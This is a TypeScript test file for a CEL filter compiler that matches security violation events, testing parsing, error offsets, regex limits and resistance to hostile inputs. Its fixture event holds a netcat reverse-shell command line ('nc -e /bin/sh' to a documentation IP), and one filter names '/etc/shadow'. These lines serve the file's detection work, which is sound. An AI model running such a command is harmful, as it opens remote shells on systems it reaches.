import { describe, expect, it } from '@jest/globals';
import fc from 'fast-check';
import { FilterError } from './filter-error.js';
import { compileFilter } from './filter.js';

const violation = {
  name: 'Terminal shell in container',
  severity_id: 4,
  tags: ['shell', 'container'],
  workload: { namespace: 'pay', name: 'web' },
  process: { name: 'nc', cmd_line: 'nc -e /bin/sh 203.0.113.9 4444' },
};

function passes(source: string): boolean {
  return compileFilter(source, 'violation').test(violation);
}

function offsetOf(source: string): number | undefined {
  try {
    compileFilter(source, 'violation');
  } catch (error) {
    if (error instanceof FilterError) return error.offset;
    throw error;
  }
  return undefined;
}

describe('compileFilter', () => {
  it.each([
    'violation.workload.namespace == "pay" && violation.process.name == "nc"',
    'violation.process.name in ["nc", "ncat"]',
    'violation.name.startsWith("Terminal")',
    'violation.severity_id >= 4',
    'violation.severity_id == 4.0',
    'violation.tags.exists(t, t == "shell")',
    'has(violation.process) && !has(violation.file)',
    'violation.process.cmd_line.matches("-e\\\\s+/bin/(ba)?sh")',
    '!violation.process.cmd_line.matches("^x") && violation.name.matches("shell") || false',
    'violation.tags.exists(t, t.matches("^sh"))',
    '(violation.name + "!").matches("container!$") && (violation.severity_id > 3)',
    '( violation . name ) . matches ( "shell" )',
    'violation.name.matches(r"\\w+ shell") // matches("x")',
    '"x.matches(y)" != violation.name && violation.name.matches("(?i)TERMINAL")',
    'violation.severity_id in [4, 5]',
    'violation.severity_id + 1 == 5 && 1 + violation.severity_id > 4 && violation.severity_id % 2 == 0',
    'violation["name"] == "Terminal shell in container" && violation.tags[0] == "shell"',
    'violation.file.path == "/x" || violation.severity_id == 4',
  ])('passes %s', (source) => {
    expect(passes(source)).toBe(true);
  });

  it('does not pass when a field is absent, and does not count that as an error', () => {
    const filter = compileFilter('violation.file.path == "/etc/shadow"', 'violation');
    expect(filter.test(violation)).toBe(false);
    expect(filter.errors).toBe(0);
  });

  it('counts an evaluation that fails for another reason', () => {
    const filter = compileFilter('violation.severity_id.startsWith("x")', 'violation');
    expect(filter.test(violation)).toBe(false);
    expect(filter.errors).toBe(1);
  });

  it('matches in linear time where backtracking would take for ever', () => {
    const filter = compileFilter('violation.name.matches("^(a+)+$")', 'violation');
    expect(filter.test({ name: `${'a'.repeat(50_000)}!` })).toBe(false);
  });

  it('counts a missing field under a function as absent, too', () => {
    const filter = compileFilter('violation.file.path.startsWith("/etc") || violation.tags.exists(t, t.absent == "x")', 'violation');
    expect(filter.test({})).toBe(false);
    expect(filter.errors).toBe(0);
  });

  it.each(['violation.constructor.name == "Object"', 'violation.toString != "x"', 'has(violation.__proto__)', 'violation.tags.length == 2'])(
    'does not reach what JavaScript, not the sender, put into the event: %s',
    (source) => {
      expect(passes(source)).toBe(false);
    },
  );

  it('does not throw, whatever comes as an event', () => {
    const filter = compileFilter('violation.workload.namespace == "pay" && violation.tags.exists(t, t.matches("x"))', 'violation');
    fc.assert(
      fc.property(fc.oneof(fc.dictionary(fc.string(), fc.anything()), fc.record({ workload: fc.anything(), tags: fc.anything() })), (event) => {
        expect(typeof filter.test(event)).toBe('boolean');
      }),
    );
  });

  it('tells where the mistake is', () => {
    expect(offsetOf('violation.severity_id > 3 &&\n violation.name = "x"')).toBe(45);
    expect(offsetOf('violation.severity_id > 3 && violation.name.matches("a[")')).toBe(52);
    expect(offsetOf('violation.name.matches("a") && nope == 1')).toBe(31);
  });

  it.each([
    ['violation.name == "x"'.padEnd(20_000), /has 20000 characters, expected at most 16384/],
    ['!'.repeat(16_000) + 'true', /not a valid CEL expression/],
    ['('.repeat(8_000) + '1' + ')'.repeat(8_000), /Exceeded maxDepth/],
    [Array.from({ length: 600 }, () => 'true').join(' || '), /Exceeded maxAstNodes/],
    ['violation.a.exists(x, x.b.exists(y, y.c.exists(z, z)))', /more than 2 deep/],
    ['cel.bind(a, "x", cel.bind(b, a + a, cel.bind(c, b + b, c == "x")))', /more than 2 deep/],
    ['violation.name.matches(violation.message)', /pattern that is not a literal/],
    [`violation.name.matches("${'a'.repeat(1_001)}")`, /pattern of 1001 characters/],
    ['violation.name.matches("((a{100}){100}){100}")', /not a regular expression of RE2/],
    ['violation.name.matches("(?=a)")', /not a regular expression of RE2/],
    ['violation.name /* c */ == "x"', /not a valid CEL expression/],
    ['violation.name. // why\n matches("x")', /comment within a call/],
    ['violation.name.matches("a", "b")', /not a valid CEL expression/],
    ['violation.name.startWith("a")', /not a valid CEL expression: .*startWith/],
    ['', /not a valid CEL expression/],
  ])('bounds and refuses %s', (source, message) => {
    expect(() => compileFilter(source, 'violation')).toThrow(FilterError);
    expect(() => compileFilter(source, 'violation')).toThrow(message);
  });

  it.each([
    ['violation.name = "x"', /not a valid CEL expression/],
    ['violations.name == "x"', /Unknown variable: violations; the event is called "violation" here/],
    ['violation.name.matches("(")', /not a regular expression/],
    ['"text"', /gives string, expected true or false/],
  ])('refuses %s', (source, message) => {
    expect(() => compileFilter(source, 'violation')).toThrow(FilterError);
    expect(() => compileFilter(source, 'violation')).toThrow(message);
  });

  it.each([
    // Terms that have no closure go to cel-js by themselves. Once they were written anew, which changed what they mean.
    ['violation.severity_id - (violation.count - 1) == 4.0', true],
    ['(violation.severity_id == 4.0) == (violation.count == violation.severity_id)', false],
    ['violation.name == "x" || (violation.name == "🦑" + "") == false', true],
    ['1e21 >= violation.severity_id && 0.0000000001 + 0.0 < violation.severity_id', true],
    ['violation.name == "x" || ((violation.name + ")").size()) == 28', true],
    ['violation.name == "x" || // ) (\n (violation.count + 1) * 2 == 4.0', true],
  ])('means what is written: %s', (source, outcome) => {
    expect(compileFilter(source, 'violation').test({ ...violation, count: 1 })).toBe(outcome);
  });

  it('is not led astray by a label with the name of what JavaScript objects have', () => {
    const labels = { app: 'shop', constructor: 'x', toString: 'y', hasOwnProperty: 'z' };
    const passes = (source: string): boolean => compileFilter(source, 'violation').test({ ...violation, labels });
    // The second of each is a term for cel-js, which took the label for the type of the map.
    expect(passes('violation.labels.app == "shop" && violation.labels.app + "" == "shop"')).toBe(true);
    expect(passes('size(violation.labels) == 4 && violation.labels.exists(key, key + "" == "constructor")')).toBe(true);
    expect(passes('"constructor" in violation.labels && violation.labels == violation.labels')).toBe(true);
  });

  it('refuses what one event could make too dear', () => {
    const looped = (inner: string): string => `violation.message.split(" ").exists(word, ${inner})`;
    expect(compileFilter(looped('word == "a"'), 'violation').test({ message: 'b a' })).toBe(true);
    expect(() => compileFilter(looped('violation.tags.exists(tag, tag == word)'), 'violation')).toThrow('may take 5,276,941 steps on one event');
    expect(() => compileFilter(Array.from({ length: 400 }, () => 'violation.name == "a"').join(' || '), 'violation')).toThrow(FilterError);
  });
});
